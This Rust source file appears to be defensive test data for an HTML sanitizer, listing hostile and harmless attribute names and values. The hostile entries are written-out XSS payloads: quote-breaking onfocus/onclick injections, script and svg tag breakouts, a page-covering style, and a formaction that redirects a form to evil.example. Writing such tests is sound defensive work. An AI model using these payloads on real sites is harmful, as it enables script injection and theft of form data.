//! Names of attributes, and values.

use super::{Attack, harmless, hostile};

const PARSE: &str = "HTML standard, 13.2.5 (tokenization)";
const CHROMIUM: &str = "seen in Chromium 156";
const HTML: &str = "HTML standard, index of attributes";

#[rustfmt::skip]
pub(super) const NAMES: &[Attack] = &[
    hostile("onclick", "a handler: the value is script", "HTML standard, 8.1.8"),
    hostile("OnMouseOver", "names have no case", PARSE),
    hostile("onpointerdown", "a handler that lists from last year do not have", CHROMIUM),
    hostile("onbeforematch", "another one", CHROMIUM),
    hostile("onwebkitanimationend", "another one, with a prefix", CHROMIUM),
    hostile("href", "the value is a URL, and may run: it has a function of its own", HTML),
    hostile("src", "the value is fetched", HTML),
    hostile("formaction", "the value is a URL, and runs when the button is pressed", HTML),
    hostile("xlink:href", "the same in SVG", CHROMIUM),
    hostile("srcdoc", "the value is a document", HTML),
    hostile("style", "the value is CSS: it covers the page", HTML),
    hostile("id", "takes the place of the page's own element, and of globals of its scripts", "HTML standard, 7.2.2.3 (named access)"),
    hostile("name", "the same for forms", "HTML standard, 7.2.2.3 (named access)"),
    hostile("http-equiv", "stands for a header", HTML),
    hostile("is", "makes it another element", "HTML standard, 4.13"),
    hostile("hx-get", "script libraries act on names of theirs", "htmx"),
    hostile("x-on:click", "another library", "Alpine"),
    hostile("v-html", "another one", "Vue"),
    hostile("ng-click", "another one", "AngularJS"),
    hostile("@click", "a name need not begin with a letter", "Vue"),
    hostile("data-bind", "also behind data-", "Knockout"),
    hostile("title onclick", "two names", PARSE),
    hostile("title/onclick", "a slash parts them as well", PARSE),
    hostile("title\tonclick", "so does a tab", PARSE),
    hostile("title\u{C}onclick", "and a form feed", PARSE),
    hostile("onclick=alert(1) x", "a name with a value of its own", CHROMIUM),
    hostile("x><script>alert(1)</script><i x", "ends the tag", CHROMIUM),
    hostile("title\"", "a quote is part of a name for the parser, and ends a value for the next reader", PARSE),
    hostile("", "no name: the value becomes one", PARSE),
    hostile("\u{17F}rc", "a letter that becomes s in upper case", "CVE-2021-29272 (bluemonday)"),
    harmless("title", "shown beside the pointer", HTML),
    harmless("Alt", "names have no case", HTML),
    harmless("lang", "a language", HTML),
    harmless("aria-label", "read aloud", "WAI-ARIA 1.2"),
    harmless("placeholder", "shown in an empty field", HTML),
    harmless("colspan", "columns of a table", HTML),
];

#[rustfmt::skip]
pub(super) const VALUES: &[Attack] = &[
    hostile("\" autofocus onfocus=alert(1) x=\"", "ends double quotes: a handler, without any bracket", CHROMIUM),
    hostile("' autofocus onfocus=alert(1) x='", "ends single quotes", CHROMIUM),
    hostile("x onclick=alert(1)", "a space ends a value without quotes", PARSE),
    hostile("x\tonclick=alert(1)", "so does a tab", PARSE),
    hostile("x\nonclick=alert(1)", "and a line feed", PARSE),
    hostile("x\u{C}onclick=alert(1)", "and a form feed", PARSE),
    hostile("''onclick=alert(1)", "a quote at the start makes it a quoted value, which ends at once", PARSE),
    hostile("\"/onclick=\"alert(1)", "a slash parts attributes", PARSE),
    hostile("\"><script>alert(1)</script>", "ends the tag", CHROMIUM),
    hostile("'><img src=x onerror=alert(1)>", "ends the tag", CHROMIUM),
    hostile("x><svg onload=alert(1)>", "ends the tag, without a quote", PARSE),
    hostile("\" style=\"position:fixed;inset:0", "covers the page, without script", CHROMIUM),
    hostile("\" formaction=\"//evil.example", "sends the form elsewhere", HTML),
    harmless("it's \u{201C}fine\u{201D}", "an apostrophe, and quotes that are letters", "the ordinary case"),
    harmless("R&D", "an ampersand", "the ordinary case"),
    harmless("a&copy=b", "no reference in an attribute, where = follows", PARSE),
    harmless("&lt;b&gt;", "somebody wrote references, and means them", "the ordinary case"),
    harmless("a\\\"b", "a backslash escapes nothing in HTML", PARSE),
    harmless("5 < 6 > 4", "brackets are fine in quotes", PARSE),
    harmless("two\nlines", "a line feed is kept", PARSE),
    harmless("", "nothing", PARSE),
];
